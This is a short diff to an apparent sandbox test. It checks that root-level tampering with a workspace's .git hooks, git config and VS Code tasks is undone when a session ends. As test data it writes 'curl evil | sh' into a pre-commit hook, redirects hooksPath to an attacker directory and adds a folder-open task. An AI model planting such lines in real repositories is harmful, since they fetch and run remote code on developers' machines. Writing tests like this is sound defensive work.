@@ -117,7 +117,7 @@ def test_root_inside_unmounts_and_writes_restored_when_the_session_ends(
         rc, out = _as_root(
             client,
             name,
-            "set -e; cd /workspace; umount .git/hooks; umount .git/config; umount .git; "
+            "set -e; cd /workspace; umount .git/hooks .git/config .git/info; umount .git; "
             "echo 'curl evil | sh' >> .git/hooks/pre-commit; "
             "printf '[core]\\n\\thooksPath = /workspace/evil\\n' >> .git/config; "
             'mkdir -p .vscode; echo \'{"runOn": "folderOpen"}\' > .vscode/tasks.json; '
